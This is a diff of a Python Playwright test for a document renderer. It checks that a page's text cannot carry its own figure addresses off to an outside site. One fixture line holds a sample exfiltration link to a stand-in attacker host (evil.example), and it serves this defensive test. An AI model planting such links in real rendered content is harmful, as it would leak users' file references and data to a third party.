@@ -43,7 +43,7 @@ async def test_figures_are_in_the_text_and_in_the_zip(page: Page, tmp_path: Path
 
 
 async def test_figures_url_never_meets_page_text(browser: Browser, renderer: Renderer, letter: Path) -> None:
-    """A text that refers to its own figures gets pictures, or a blank, but no address that it could carry away."""
+    """A text that refers to its own figures gets pictures, or their words, but no address that it could carry away."""
     own = "![x](figures/page-1-1.png)"
     text = (
         f"![image](100,100,900,500)\n\n![text](100,500,900,600) [click](https://evil.example/?{own}) "
@@ -67,8 +67,7 @@ async def test_figures_url_never_meets_page_text(browser: Browser, renderer: Ren
             )
             assert {(tag, name) for tag, name, _ in found} == {("IMG", "src")}
             assert "file=" not in await page.locator("#pl-text").inner_text()
-            missing = page.get_by_role("img", name="y", exact=True)
-            assert await missing.evaluate("image => image.complete && image.naturalWidth > 0")
+            await expect(page.locator("#pl-text")).to_contain_text("[y] End.")
         finally:
             await context.close()
     assert witness.complaints == []
